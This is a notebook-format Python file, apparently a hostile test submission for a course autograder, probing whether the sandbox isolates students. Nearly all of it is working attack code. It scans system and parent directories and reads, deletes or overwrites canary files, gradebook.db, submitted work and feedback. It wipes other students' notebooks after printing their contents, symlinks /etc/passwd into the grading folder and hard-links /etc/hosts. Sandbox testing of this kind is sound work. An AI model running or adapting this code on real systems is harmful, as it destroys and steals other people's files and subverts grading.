# %% [markdown] start="release" loses="c4"
# Reads, changes, links, and deletes whatever files of other students, of the course and of the machine it can reach.

# %% added="c4"
import contextlib
import os
import tempfile
from pathlib import Path

MARK = "hostile-sample-was-here"
touched = []
for top in (
    "/",
    "/home",
    "/root",
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/srv",
    "/work",
    "/opt",
    "/run",
    "/etc",
    "/usr/local",
    "..",
    "../..",
    "../../..",
    tempfile.gettempdir(),
    os.path.expanduser("~"),
):
    for name in (MARK, f".{MARK}"):
        try:
            Path(top, name).write_text(MARK)
        except OSError:
            continue
    try:
        names = os.listdir(top)
    except OSError:
        continue
    for name in names:
        if "canary" in name or name in ("submitted", "gradebook.db", "autograded", "feedback"):
            path = Path(top, name)
            for act in (path.read_text, path.unlink, lambda path=path: path.write_text(MARK)):
                with contextlib.suppress(OSError):
                    touched.append((str(path), str(act())))
for path in Path("..").glob("../*/*/*.ipynb"):
    touched.append((str(path), path.read_text()[:200]))
    path.write_text("{}")
print("stolen:", touched)
os.symlink("/etc/passwd", "autograded.ipynb")
os.link("/etc/hosts", "hosts") if os.access("/etc/hosts", os.W_OK) else None


# %% answer="c4"
class C4:
    product = staticmethod(lambda r, s: len(touched))
    inverse = staticmethod(lambda r: len(touched))
